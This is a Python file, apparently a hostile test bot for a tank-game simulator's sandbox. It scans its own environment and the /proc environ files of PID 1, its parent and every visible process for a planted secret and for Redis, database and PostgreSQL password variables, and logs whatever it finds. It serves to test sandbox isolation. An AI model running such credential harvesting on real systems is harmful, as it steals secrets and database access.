"""Hostile Tanks bot: the simulator's environment variables.

The escape driver runs cf-fight with a secret in its environment
(CF_ESCAPE_ENV_SECRET=CFSECRET-env-<hex>) beside the usual CF_REDIS_URL and
CF_DATABASE_URL. The bot looks for them in os.environ, /proc/self/environ,
/proc/1/environ, its parent's and every visible process's environ, and
prints what it finds into its log (the report).
"""
# @ESCAPE_PRELUDE@


import re

PATTERN = re.compile(('CFSECRET' + '-env-' + '[0-9a-f]{16}').encode())


def look(where, data):
    for m in PATTERN.finditer(data):
        sys.stderr.write('LEAK %s %s\n' % (where, m.group(0).decode()))
        evidence('found the simulator\'s environment in %s' % where)
        return
    for var in (b'CF_REDIS_URL=', b'CF_DATABASE_URL=', b'PGPASSWORD='):
        i = data.find(var)
        if i >= 0:
            sys.stderr.write('LEAK %s %s\n' % (where, data[i:i + 120].split(b'\0')[0].decode('ascii', 'replace')))
            evidence('found %s in %s' % (var.decode(), where))


def attack():
    note('environment keys: %s' % sorted(os.environ))
    look('os.environ', b'\0'.join(('%s=%s' % kv).encode() for kv in os.environ.items()))
    pids = ['self', '1', str(os.getppid())]
    try:
        pids.extend(p for p in os.listdir('/proc') if p.isdigit())
    except OSError:
        pass
    for pid in pids:
        try:
            with open('/proc/%s/environ' % pid, 'rb') as f:
                look('/proc/%s/environ' % pid, f.read(1 << 20))
        except OSError:
            pass


# @ESCAPE_ATTACK_MAIN@
